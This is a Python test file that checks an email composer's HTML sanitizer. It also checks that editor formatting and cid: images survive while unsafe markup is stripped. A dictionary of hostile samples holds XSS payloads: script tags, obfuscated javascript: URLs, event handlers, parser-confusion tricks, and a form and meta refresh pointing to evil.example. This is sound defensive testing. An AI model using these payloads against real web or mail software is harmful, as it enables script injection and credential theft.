"""The compose body's sanitizer (sending/compose.py sanitize_html, nh3) against hostile HTML:
what the editor writes survives, cid: pictures survive, and nothing that runs script, loads
from a data: URL, restyles the reader's page or submits anything is left.

Each result is checked by parsing it (html.parser), not by looking for substrings: a tag, an
attribute or a URL scheme is judged as a browser would read it.
"""
from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, strategies as st

from mailer.sending.compose import sanitize_html

SAFE_SCHEMES = {"", "http", "https", "mailto", "cid"}  # "": a relative URL
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "xlink:href", "background",
                  "poster", "data", "cite", "longdesc", "lowsrc", "dynsrc", "ping"}
ACTIVE_TAGS = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet",
               "form", "input", "button", "select", "textarea", "meta", "base", "link", "svg",
               "math", "template", "noscript", "xmp", "plaintext", "portal", "dialog"}


class Found(HTMLParser):
    """Every tag with its attributes, as a browser's tokenizer would read them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def parsed(html: str) -> list[tuple[str, dict]]:
    found = Found()
    found.feed(html)
    found.close()
    return found.tags


def scheme(url: str) -> str:
    # Browsers drop ASCII whitespace and control characters before reading a scheme.
    squeezed = "".join(ch for ch in url if ord(ch) > 0x20 and ch != "\x7f")
    return urlsplit(squeezed).scheme.lower()


def unsafe_parts(html: str) -> list[str]:
    """What would be unsafe in a sanitized body: empty when the body is safe."""
    problems = []
    for tag, attrs in parsed(html):
        if tag in ACTIVE_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in ("style", "class", "id", "formaction", "srcdoc"):
                problems.append(f"{tag}[{name}]")
            if name in URL_ATTRIBUTES and scheme(value or "") not in SAFE_SCHEMES:
                problems.append(f"{tag}[{name}={value!r}]")
    return problems


HOSTILE = {
    "script": '<p>Hi<script>alert(1)</script></p><script src="https://evil.example/x.js"></script>',
    "script in svg": ("<svg><script>alert(1)</script>"
                      "<a xlink:href='javascript:alert(1)'>x</a></svg>"),
    "script in math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "event handlers": ('<img src="cid:a@mailer" onerror="alert(1)" onload=alert(2)>'
                       '<p onclick="steal()" onmouseover=\'x()\'>p</p><body onload=alert(3)>'),
    "javascript href": '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a>',
    "javascript hidden": ('<a href="java\tscript:alert(1)">a</a>'
                          '<a href=" javascript:alert(1)">b</a>'
                          '<a href="&#106;avascript:alert(1)">c</a>'
                          '<a href="&#x6A;&#x61;vascript&colon;alert(1)">d</a>'
                          '<a href="\x01javascript:alert(1)">e</a>'),
    "vbscript": '<a href="vbscript:msgbox(1)">v</a>',
    "data src": ('<img src="data:image/png;base64,iVBORw0KGgo=">'
                 '<img src="DATA:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">'),
    "data href": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">d</a>',
    "srcset": '<img src="cid:a@mailer" srcset="javascript:alert(1) 1x, https://evil.example/t 2x">',
    "style element": '<style>body{background:url(https://evil.example/t)}</style><p>a</p>',
    "style attribute": ('<p style="background:url(javascript:alert(1))">a</p>'
                        '<div style="position:fixed;inset:0;z-index:9999">over the page</div>'
                        '<img src="cid:a@mailer" style="width:expression(alert(1))">'),
    "stylesheet link": '<link rel="stylesheet" href="https://evil.example/x.css"><p>a</p>',
    "frames and plugins": ('<iframe src="https://evil.example" srcdoc="<script>x</script>">'
                           '</iframe>'
                           '<object data="x.swf"></object><embed src="x.swf"><applet code=x>'),
    "forms": ('<form action="https://evil.example/steal"><input name="password">'
              '<button formaction="javascript:alert(1)">Go</button></form>'),
    "meta and base": ('<meta http-equiv="refresh" content="0;url=https://evil.example">'
                      '<base href="https://evil.example/">'),
    "noscript confusion": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
                           '</noscript>'),
    "comment confusion": '<!--<img src="--><img src=x onerror=alert(1)//">-->',
    "template": '<template><img src=x onerror=alert(1)></template>',
    "classes and ids": '<p class="alert alert-danger" id="compose">looks like the app</p>',
    "unclosed": '<a href="javascript:alert(1)"><img src="cid:a@mailer" onerror=alert(1)><b>bold',
}


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_leaves_nothing_unsafe(html):
    clean = sanitize_html(html)
    assert unsafe_parts(clean) == [], clean


def test_the_checker_itself_sees_each_kind_of_danger():
    # So a pass above means something: unsanitized, every hostile sample is caught.
    for name, html in HOSTILE.items():
        assert unsafe_parts(html), name


def test_what_the_editor_writes_survives_whole():
    html = ('<h1>Title</h1><h2>Part</h2><h3>Point</h3><p>Plain, <strong>bold</strong>, '
            '<em>italic</em> and <u>underlined</u>.</p><ul><li>one</li><li>two</li></ul>'
            '<ol><li>first</li></ol><blockquote>quoted</blockquote>'
            '<p><a href="https://example.org/a?b=1&amp;c=2">a link</a> '
            '<a href="mailto:megan@contoso.example">mail</a></p>'
            '<p><img src="cid:0123456789ab@mailer"></p>')
    clean = sanitize_html(html)
    assert clean == html.replace('">a link', '" rel="noopener noreferrer">a link').replace(
        '">mail', '" rel="noopener noreferrer">mail')


def test_cid_pictures_stay_and_their_unsafe_attributes_go():
    clean = sanitize_html('<img src="cid:0123456789ab@mailer" onerror="x()" style="a:b" '
                          'alt="Logo">')
    assert clean == '<img src="cid:0123456789ab@mailer" alt="Logo">'


FRAGMENTS = list(HOSTILE.values()) + ["<p>", "</p>", "<b>", "text", "<ul><li>", '"', "'", "<",
                                      ">", "&", "<img src=", "cid:x", " onerror=a()", "<a href=",
                                      "javascript:", "data:", "<!--", "-->", "<svg>", "<style>"]


@given(st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=8))
def test_hostile_fragments_mixed_in_any_order_leave_nothing_unsafe(pieces):
    clean = sanitize_html("".join(pieces))
    assert unsafe_parts(clean) == [], clean
